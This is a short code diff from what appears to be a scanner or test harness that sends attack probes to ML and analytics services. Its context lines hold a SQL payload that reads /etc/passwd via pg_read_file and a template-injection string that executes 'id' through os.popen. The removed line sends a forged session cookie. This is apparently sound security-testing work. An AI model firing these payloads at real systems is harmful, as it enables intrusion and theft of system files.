@@ -200,7 +200,6 @@ function writeMachineLearning(write: WholeWriter): void {
     'application/x-www-form-urlencoded',
     'sql=select+pg_read_file(%27/etc/passwd%27)&database_id=1',
   );
-  write.get('/superset/welcome', { cookie: 'session=eyJ1c2VyX2lkIjoxfQ.ZmFrZQ.aW52YWxpZA; _user_id=1' });
   write.json('/v1/chat/completions', {
     model: 'x',
     chat_template: "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
